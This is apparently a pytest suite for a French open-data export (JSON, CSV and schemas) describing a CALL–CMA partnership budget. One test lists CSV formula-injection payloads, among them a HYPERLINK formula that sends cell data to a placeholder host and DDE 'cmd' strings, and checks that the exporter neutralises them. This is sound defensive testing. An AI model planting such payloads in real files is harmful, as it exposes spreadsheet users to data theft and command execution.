"""Export stage: convention.json, faits.csv and schema.json say what the data says, and read back as it."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
from referencing import Registry, Resource
import pytest

from callcma import build
from callcma.stages.s4_export import CSV_COLUMNS, CSV_JOIN, FILE_SCHEMA_NAME, SCHEMA_NAME, export_csv, export_data, export_value, fact_rows, neutralise_cell
from callcma.stages.s1_load import load_document
from callcma.formatting import format_number
from callcma.model import Dataset, Fact
from callcma.sections import section_name
from callcma.settings import DATA_EXPORT_DIR
from helpers import PROJECT

ADDED_FACT = Path(__file__).parent / "fixtures" / "export" / "budget-fait-ajoute.yaml"


@pytest.fixture(scope="module")
def exports(dataset: Dataset) -> dict[str, bytes]:
    return export_data(dataset)


@pytest.fixture(scope="module")
def validator(exports: dict[str, bytes]) -> jsonschema.Draft202012Validator:
    """schema.json: the data as a whole (convention.json)."""
    schema = json.loads(exports[SCHEMA_NAME])
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


@pytest.fixture(scope="module")
def file_validator(exports: dict[str, bytes]) -> jsonschema.Draft202012Validator:
    """schema-fichier.json: one file of data/, its sections as schema.json defines them (found beside it)."""
    schemas = {name: json.loads(exports[name]) for name in (SCHEMA_NAME, FILE_SCHEMA_NAME)}
    jsonschema.Draft202012Validator.check_schema(schemas[FILE_SCHEMA_NAME])
    registry = Registry().with_resources((name, Resource.from_contents(schema)) for name, schema in schemas.items())
    return jsonschema.Draft202012Validator(schemas[FILE_SCHEMA_NAME], registry=registry)


def test_the_whole_data_requires_what_the_model_requires_and_a_file_any_of_its_sections(
    validator: jsonschema.Draft202012Validator, file_validator: jsonschema.Draft202012Validator
) -> None:
    missing = [error.message for error in validator.iter_errors({})]
    assert "'sources' is a required property" in missing and "'budget' is a required property" in missing
    assert list(file_validator.iter_errors({})) == []
    assert [error.message for error in file_validator.iter_errors({"budjet": []})] == ["Additional properties are not allowed ('budjet' was unexpected)"]
    # A section of a file is checked in full, through schema.json's definitions.
    assert list(file_validator.iter_errors({"budget": [{"id": "x"}]})) != []


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def _errors(validator: jsonschema.Draft202012Validator, content: Any) -> list[tuple[str, str]]:
    return sorted((error.json_path, error.message) for error in validator.iter_errors(content))


def test_convention_json_validates_against_the_schema_and_reads_back_as_the_same_model(
    exports: dict[str, bytes], validator: jsonschema.Draft202012Validator, dataset: Dataset
) -> None:
    assert _errors(validator, json.loads(exports["convention.json"])) == []
    assert Dataset.model_validate_json(exports["convention.json"]) == dataset


def test_exports_are_stable_utf8_in_the_models_key_order(exports: dict[str, bytes], dataset: Dataset) -> None:
    assert export_data(dataset) == exports
    data = json.loads(exports["convention.json"])
    assert list(data) == list(Dataset.model_fields)
    assert list(data["budget"][0]) == list(Fact.model_fields)
    assert "Communauté d'agglomération de Lens-Liévin" in exports["convention.json"].decode("utf-8")
    assert not exports["faits.csv"].startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize(
    ("section", "fact_id", "value", "unit"),
    [
        ("budget", "budget-montant", 140000, "EUR"),
        ("budget", "budget-moyenne-annuelle", 46667, "EUR-par-an"),
        ("territory", "territoire-salaries", 5400, "salariés"),
        ("budget", "budget-financeurs", "les deux partenaires, la CALL et la CMA, ensemble", None),
    ],
)
def test_values_keep_their_type_and_amounts_their_currency(exports: dict[str, bytes], section: str, fact_id: str, value: Any, unit: str | None) -> None:
    fact = next(item for item in json.loads(exports["convention.json"])[section] if item["id"] == fact_id)
    assert (fact["value"], type(fact["value"]), fact["unit"]) == (value, type(value), unit)


def test_csv_has_one_row_per_fact_with_its_certainty_source_and_quote(exports: dict[str, bytes], dataset: Dataset) -> None:
    assert exports["faits.csv"].decode("utf-8").splitlines()[0] == ",".join(CSV_COLUMNS)
    assert b"\r\n" in exports["faits.csv"]
    rows = _rows(exports["faits.csv"])
    facts = list(dataset.cited_by_section())
    assert [row["id"] for row in rows] == [item.id for _, item in facts]
    for row, (section, item) in zip(rows, facts, strict=True):
        assert row["label"] == item.label
        assert row["value"] == str(export_value(item))
        assert row["certainty"] == item.certainty.value
        assert row["source"] == CSV_JOIN.join(citation.source for citation in item.citations)
        assert row["quote"] == CSV_JOIN.join(citation.quote or "" for citation in item.citations)
        assert row["record"] == CSV_JOIN.join(citation.record or "" for citation in item.citations)
        assert row["section"] == section_name(section)


@pytest.mark.parametrize(
    ("fact_id", "columns"),
    [
        ("territoire-salaries", {"certainty": "déclaration", "speaker": "Alain Griset", "reasoning": "", "formula": "", "section": "territoire"}),
        ("budget-moyenne-annuelle", {"certainty": "calculé", "speaker": "", "formula": "budget-montant / budget-duree", "section": "budget"}),
        ("date-signature", {"certainty": "déduit", "speaker": "", "formula": "", "section": "calendrier"}),
        ("robert-fonction", {"section": "partenaires"}),
    ],
)
def test_csv_says_whose_statement_why_and_how_in_french_sections(exports: dict[str, bytes], fact_id: str, columns: dict[str, str]) -> None:
    row = next(row for row in _rows(exports["faits.csv"]) if row["id"] == fact_id)
    assert {name: row[name] for name in columns} == columns
    assert bool(row["reasoning"]) == (row["certainty"] == "déduit")


@pytest.mark.parametrize(
    ("fact_id", "value", "unit"),
    [
        ("budget-montant", "140000", "EUR"),
        ("territoire-salaries", "5400", "salariés"),
        ("date-signature", "2016-11-16", ""),
        ("date-plan", "2017/2020", ""),
    ],
)
def test_csv_writes_numbers_plainly_and_dates_in_iso_8601(exports: dict[str, bytes], fact_id: str, value: str, unit: str) -> None:
    row = next(row for row in _rows(exports["faits.csv"]) if row["id"] == fact_id)
    assert (row["value"], row["unit"]) == (value, unit)


def test_a_fact_added_to_the_yaml_appears_in_every_export(data_copy: Path, tmp_path: Path) -> None:
    budget = data_copy / "budget.yaml"
    budget.write_text(budget.read_text(encoding="utf-8") + ADDED_FACT.read_text(encoding="utf-8"), encoding="utf-8")
    docs = tmp_path / "docs"
    build.generate_site_sources(replace(PROJECT, data_dir=data_copy, docs_dir=docs))
    exported = docs / DATA_EXPORT_DIR
    data = json.loads((exported / "convention.json").read_text(encoding="utf-8"))
    assert data["budget"][-1] | {"citations": None} == {
        "id": "budget-horizon",
        "label": "Horizon, « à venir »",
        "certainty": "attesté",
        "citations": None,
        "reasoning": None,
        "formula": None,
        "speaker": None,
        "deduced": None,
        "unit": None,
        "value": "les trois années à venir",
    }
    schema = json.loads((exported / SCHEMA_NAME).read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema).validate(data)
    row = next(row for row in _rows((exported / "faits.csv").read_bytes()) if row["id"] == "budget-horizon")
    assert row == {
        "id": "budget-horizon",
        "label": "Horizon, « à venir »",
        "value": "les trois années à venir",
        "unit": "",
        "certainty": "attesté",
        "source": "article-call-cma-partenariat",
        "quote": "140 000 euros sur les trois années à venir",
        "record": "",
        "speaker": "",
        "reasoning": "",
        "formula": "",
        "section": "budget",
    }


@pytest.mark.parametrize("name", sorted(path.name for path in PROJECT.data_dir.glob("*.yaml")))
def test_every_data_file_validates_against_the_schema_it_names(name: str, file_validator: jsonschema.Draft202012Validator) -> None:
    path = PROJECT.data_dir / name
    assert path.read_text(encoding="utf-8").startswith(f"# yaml-language-server: $schema=../docs/{DATA_EXPORT_DIR}/{FILE_SCHEMA_NAME}\n")
    assert _errors(file_validator, load_document(path, f"data/{name}").content) == []


CERTAINTIES = "['attesté', 'appréciation', 'déduit', 'calculé', 'déclaration']"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("value: 140000", 'value: "140 000"', [("$.budget[0].value", "'140 000' is not of type 'number'")]),
        ("value: 140000", "value: -140000", [("$.budget[0].value", "-140000 is less than or equal to the minimum of 0")]),
        ("unit: EUR", "unit: 3 euros", [("$.budget[0].unit", "'3 euros' is not valid under any of the given schemas")]),
        ("certainty: attesté", "certainty: sûr", [("$.budget[0].certainty", f"'sûr' is not one of {CERTAINTIES}")]),
        ("certainty: attesté", "certainty: déduit", [("$.budget[0]", "'reasoning' is a required property")]),
        (
            "label: Montant",
            "libelle: Montant",
            [("$.budget[0]", "'label' is a required property"), ("$.budget[0]", "Additional properties are not allowed ('libelle' was unexpected)")],
        ),
    ],
)
def test_the_schema_flags_what_an_editor_should_flag(
    data_copy: Path, file_validator: jsonschema.Draft202012Validator, old: str, new: str, expected: list[tuple[str, str]]
) -> None:
    budget = data_copy / "budget.yaml"
    budget.write_text(budget.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    assert _errors(file_validator, load_document(budget, "data/budget.yaml").content) == expected


@pytest.fixture(scope="module")
def site(built_site: Path) -> Path:
    return built_site


def test_the_open_data_page_links_each_file_relatively_with_its_size(site: Path, exports: dict[str, bytes]) -> None:
    page = (site / "donnees.html").read_text(encoding="utf-8")
    rows = re.findall(r'<td><a href="([^"]+)">([^<]+)</a></td>\s*<td>([^<]+)</td>', page)
    assert [name for _, name, _ in rows] == list(exports)
    for href, name, size in rows:
        # Relative to the page, so that the link also works from file:// and from any folder of a host.
        assert href == f"{DATA_EXPORT_DIR}/{name}"
        target = site / href
        assert target.read_bytes() == exports[name]
        # Written by the site's number formatter (Babel rounds 24,95 up to 25,0, where Python's "%.1f" gives 24,9).
        assert html.unescape(size) == format_number(target.stat().st_size / 1000, "fr", places=1) + "\u00a0ko"
    assert 'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"' in page


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("https://example.org/?d="&A1,"Cliquez")', '\'=HYPERLINK("https://example.org/?d="&A1,"Cliquez")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Montant = 140 000 €", "Montant = 140 000 €"),
        ("'déjà cité'", "'déjà cité'"),
    ],
)
def test_csv_text_cells_that_a_spreadsheet_would_evaluate_start_with_an_apostrophe(dataset: Dataset, text: str, cell: str) -> None:
    fact = dataset.budget[0]
    hostile = dataset.model_copy(update={"budget": [fact.model_copy(update={"label": text, "value": text, "unit": None}), *dataset.budget[1:]]})
    row = next(row for row in _rows(export_csv(fact_rows(hostile)).encode("utf-8")) if row["id"] == fact.id)
    assert (row["label"], row["value"]) == (cell, cell)


@pytest.mark.parametrize("number", [-2, -0.5, 140000, 2.5])
def test_csv_numbers_stay_numbers(number: int | float) -> None:
    assert neutralise_cell(number) == number
